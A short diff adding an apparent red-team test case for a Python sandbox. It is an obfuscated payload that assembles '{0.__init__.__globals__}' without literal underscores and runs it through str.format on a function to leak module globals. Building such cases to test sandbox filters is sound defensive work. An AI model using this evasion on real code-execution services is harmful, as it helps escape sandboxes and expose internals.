@@ -1,0 +1,12 @@
+# family: red team, round 68b (len as a keyword-only param with default)
+class Evil:
+    def __rmul__(self, other):
+        u = "x_"[1] + "x_"[1]
+        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
+def mk(x):
+    return Evil()
+def show():
+    return 1
+def f(*, len=mk):
+    return ("{}" * len(show)).format(show)
+print(f())
